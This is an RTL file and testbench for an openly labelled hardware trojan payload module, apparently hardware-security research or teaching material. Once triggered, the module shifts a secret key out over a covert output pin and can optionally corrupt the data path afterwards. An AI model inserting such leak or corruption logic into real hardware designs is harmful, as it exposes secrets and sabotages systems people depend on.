trojan_payload_leak: RTL and testbench

TROJAN_PAYLOAD_LEAK -- requirements
Module: trojan_payload_leak

---
 rtl/trojan_payload_leak.sv | 129 ++++++++++++
 tb/tb_trojan_payload_leak.sv | 186 ++++++++++++++++++
 2 files changed

// File: rtl/trojan_payload_leak.sv
`default_nettype none
// ============================================================================
// Module      : trojan_payload_leak
// Description : Payload stage. Once triggered, shifts a 1010 preamble and
//               then KEY (MSB first) out on leak_out, BIT_CYCLES clocks per
//               bit, then parks in DONE. The data path is a fixed one-cycle
//               register. When TROJAN_CORRUPT_EN is defined, data is XORed
//               with MASK while in DONE.
// Options     : `define TROJAN_CORRUPT_EN - enable data corruption in DONE
// Revision    : 1.0 - initial release
// ============================================================================
module trojan_payload_leak #(
  parameter logic [31:0] KEY        = 32'hDEADBEEF,
  parameter int          BIT_CYCLES = 4,
  parameter logic [7:0]  MASK       = 8'hA5
) (
  input  logic       CLK100MHZ,
  input  logic       CPU_RESETN,
  input  logic       trigger,
  input  logic [7:0] data_in,
  input  logic       data_valid,
  output logic [7:0] data_out,
  output logic       data_out_valid,
  output logic       leak_out,
  output logic       payload_active
);

  typedef enum logic [1:0] {
    DORMANT  = 2'd0,
    PREAMBLE = 2'd1,
    LEAK     = 2'd2,
    DONE     = 2'd3
  } state_t;

  // Whole emitted stream: preamble in the top 4 bits, key below it.
  // Bit index 0 maps to SEQ[35], index 35 maps to SEQ[0].
  localparam logic [35:0] SEQ       = {4'b1010, KEY};
  localparam logic [15:0] HOLD_LAST = 16'(BIT_CYCLES - 1);
  localparam logic [5:0]  LAST_IDX  = 6'd35;
  localparam logic [5:0]  PRE_LAST  = 6'd3;

  state_t      state, state_nxt;
  logic [15:0] hold_cnt, hold_nxt;
  logic [5:0]  bit_idx, idx_nxt;
  logic [5:0]  idx_inc;
  logic [5:0]  seq_pos;
  logic        leak_nxt;
  logic        corrupt;

  assign idx_inc = bit_idx + 6'd1;
  assign seq_pos = LAST_IDX - idx_inc;

  // State, counters and the covert bit register.
  always_ff @(posedge CLK100MHZ or negedge CPU_RESETN) begin
    if (!CPU_RESETN) begin
      state    <= DORMANT;
      hold_cnt <= 16'd0;
      bit_idx  <= 6'd0;
      leak_out <= 1'b0;
    end else begin
      state    <= state_nxt;
      hold_cnt <= hold_nxt;
      bit_idx  <= idx_nxt;
      leak_out <= leak_nxt;
    end
  end

  // Next-state, counter and next-bit logic. The next bit is computed here so
  // that leak_out changes on the same edge as the counters.
  always_comb begin
    state_nxt = state;
    hold_nxt  = hold_cnt;
    idx_nxt   = bit_idx;
    leak_nxt  = 1'b0;
    case (state)
      DORMANT: begin
        if (trigger) begin
          state_nxt = PREAMBLE;
          hold_nxt  = 16'd0;
          idx_nxt   = 6'd0;
          leak_nxt  = SEQ[35];
        end
      end
      PREAMBLE, LEAK: begin
        leak_nxt = leak_out;
        if (hold_cnt == HOLD_LAST) begin
          hold_nxt = 16'd0;
          if (bit_idx == LAST_IDX) begin
            // Index stays at 35 so it never wraps.
            state_nxt = DONE;
            leak_nxt  = 1'b0;
          end else begin
            idx_nxt  = idx_inc;
            leak_nxt = SEQ[seq_pos];
            if (bit_idx == PRE_LAST) begin
              state_nxt = LEAK;
            end
          end
        end else begin
          hold_nxt = hold_cnt + 16'd1;
        end
      end
      default: begin
        // DONE is terminal until reset.
      end
    endcase
  end

  assign payload_active = (state == PREAMBLE) || (state == LEAK);

`ifdef TROJAN_CORRUPT_EN
  assign corrupt = (state == DONE);
`else
  assign corrupt = 1'b0;
`endif

  // One-cycle data path. It updates every cycle, independent of data_valid.
  always_ff @(posedge CLK100MHZ or negedge CPU_RESETN) begin
    if (!CPU_RESETN) begin
      data_out       <= 8'd0;
      data_out_valid <= 1'b0;
    end else begin
      data_out_valid <= data_valid;
      data_out       <= corrupt ? (data_in ^ MASK) : data_in;
    end
  end

endmodule
`default_nettype wire

// File: tb/tb_trojan_payload_leak.sv
`default_nettype none
// ============================================================================
// Module      : tb_trojan_payload_leak
// Description : Scoreboard bench for trojan_payload_leak. Instance 0 uses
//               BIT_CYCLES=4 and instance 1 uses BIT_CYCLES=1. Expected
//               outputs are pushed when inputs are driven and popped after
//               the following rising edge. Honours TROJAN_CORRUPT_EN.
// Revision    : 1.0 - initial release
// ============================================================================
module tb_trojan_payload_leak;

  typedef struct packed {
    logic [7:0] d;
    logic       v;
    logic       leak;
    logic       act;
  } exp_t;

  logic       clk = 1'b0;
  logic [1:0] rst_n = 2'b00;
  logic [1:0] trig = 2'b00;
  logic [7:0] data_in = 8'd0;
  logic       data_valid = 1'b0;

  logic [7:0] dout [2];
  logic       dval [2];
  logic       leak [2];
  logic       act  [2];

  exp_t q0[$];
  exp_t q1[$];

  int n_chk  = 0;
  int n_pass = 0;
  int act_cnt [2];
  int m_st [2];   // 0 dormant, 1 active, 2 done
  int m_t  [2];   // cycles since entering the active phase
  int bcs  [2];
  logic [35:0] seq;
  logic [7:0]  done_exp;

  always #5 clk = ~clk;

  trojan_payload_leak #(.KEY(32'hDEADBEEF), .BIT_CYCLES(4), .MASK(8'hA5)) dut0 (
    .CLK100MHZ     (clk),
    .CPU_RESETN    (rst_n[0]),
    .trigger       (trig[0]),
    .data_in       (data_in),
    .data_valid    (data_valid),
    .data_out      (dout[0]),
    .data_out_valid(dval[0]),
    .leak_out      (leak[0]),
    .payload_active(act[0])
  );

  trojan_payload_leak #(.KEY(32'hDEADBEEF), .BIT_CYCLES(1), .MASK(8'hA5)) dut1 (
    .CLK100MHZ     (clk),
    .CPU_RESETN    (rst_n[1]),
    .trigger       (trig[1]),
    .data_in       (data_in),
    .data_valid    (data_valid),
    .data_out      (dout[1]),
    .data_out_valid(dval[1]),
    .leak_out      (leak[1]),
    .payload_active(act[1])
  );

  task automatic check_val(input string tag, input logic [31:0] got, input logic [31:0] exp);
    n_chk++;
    if (got === exp) n_pass++;
    else $display("FAIL %s: got %h, expected %h at %0t", tag, got, exp, $time);
  endtask

  // Behavioural model: expected outputs after the next edge for instance i.
  function automatic exp_t model_step(input int i);
    exp_t e;
    logic corrupt_now;
    e = '0;
    if (!rst_n[i]) begin
      m_st[i] = 0;
      m_t[i]  = 0;
      return e;
    end
`ifdef TROJAN_CORRUPT_EN
    corrupt_now = (m_st[i] == 2);
`else
    corrupt_now = 1'b0;
`endif
    e.v = data_valid;
    e.d = corrupt_now ? (data_in ^ 8'hA5) : data_in;
    if (m_st[i] == 0 && trig[i]) begin
      m_st[i] = 1;
      m_t[i]  = 0;
    end else if (m_st[i] == 1) begin
      m_t[i]++;
      if (m_t[i] == 36 * bcs[i]) m_st[i] = 2;
    end
    e.act  = (m_st[i] == 1);
    e.leak = (m_st[i] == 1) ? seq[35 - (m_t[i] / bcs[i])] : 1'b0;
    return e;
  endfunction

  // One clock: drive at the falling edge, push expectations, check after the
  // rising edge.
  task automatic cyc(input logic [1:0] t, input logic [1:0] r, input logic [7:0] d, input logic v);
    exp_t e0, e1;
    @(negedge clk);
    trig       = t;
    rst_n      = r;
    data_in    = d;
    data_valid = v;
    #1;
    for (int i = 0; i < 2; i++) begin
      if (!rst_n[i])
        check_val($sformatf("rst_imm%0d", i), {20'd0, dout[i], dval[i], leak[i], act[i]}, 32'd0);
    end
    q0.push_back(model_step(0));
    q1.push_back(model_step(1));
    @(posedge clk);
    #1;
    e0 = q0.pop_front();
    e1 = q1.pop_front();
    check_val("data0", {23'd0, dval[0], dout[0]}, {23'd0, e0.v, e0.d});
    check_val("leak0", {30'd0, leak[0], act[0]}, {30'd0, e0.leak, e0.act});
    check_val("data1", {23'd0, dval[1], dout[1]}, {23'd0, e1.v, e1.d});
    check_val("leak1", {30'd0, leak[1], act[1]}, {30'd0, e1.leak, e1.act});
    act_cnt[0] += int'(act[0]);
    act_cnt[1] += int'(act[1]);
  endtask

  task automatic run(input int n, input logic [1:0] t, input logic [1:0] r);
    for (int k = 0; k < n; k++)
      cyc(t, r, 8'($urandom_range(0, 255)), 1'($urandom_range(0, 1)));
  endtask

  initial begin
    seq     = {4'b1010, 32'hDEADBEEF};
    bcs[0]  = 4;
    bcs[1]  = 1;
    m_st[0] = 0; m_st[1] = 0;
    m_t[0]  = 0; m_t[1]  = 0;
    act_cnt[0] = 0; act_cnt[1] = 0;
`ifdef TROJAN_CORRUPT_EN
    done_exp = 8'h99;
`else
    done_exp = 8'h3C;
`endif

    // Reset state.
    run(3, 2'b11, 2'b00);

    // Dormant pass-through with a fixed byte, trigger low.
    for (int k = 0; k < 10; k++) cyc(2'b00, 2'b11, 8'h3C, 1'b1);
    run(5, 2'b00, 2'b11);

    // One-cycle trigger pulse on instance 0: full sequence must still run.
    act_cnt[0] = 0;
    cyc(2'b01, 2'b11, 8'h11, 1'b1);
    run(150, 2'b00, 2'b11);
    check_val("active_len0", act_cnt[0], 144);

    // In DONE: trigger ignored, data corrupted only when the macro is set.
    for (int k = 0; k < 3; k++) cyc(2'b01, 2'b11, 8'h3C, 1'b1);
    check_val("done_data", {24'd0, dout[0]}, {24'd0, done_exp});

    // Reset out of DONE, restart with trigger held, reset again at leak bit 10.
    run(2, 2'b01, 2'b10);
    run(4 * 14 + 2, 2'b01, 2'b11);
    check_val("mid_leak_active", {31'd0, act[0]}, 32'd1);
    run(2, 2'b01, 2'b10);
    act_cnt[0] = 0;
    run(150, 2'b01, 2'b11);
    check_val("restart_len0", act_cnt[0], 144);

    // BIT_CYCLES=1 instance: one bit per cycle, 36 active cycles.
    act_cnt[1] = 0;
    cyc(2'b10, 2'b11, 8'h5A, 1'b0);
    run(40, 2'b00, 2'b11);
    check_val("active_len1", act_cnt[1], 36);

    $display("%0d/%0d checks passed", n_pass, n_chk);
    $finish;
  end

endmodule
`default_nettype wire
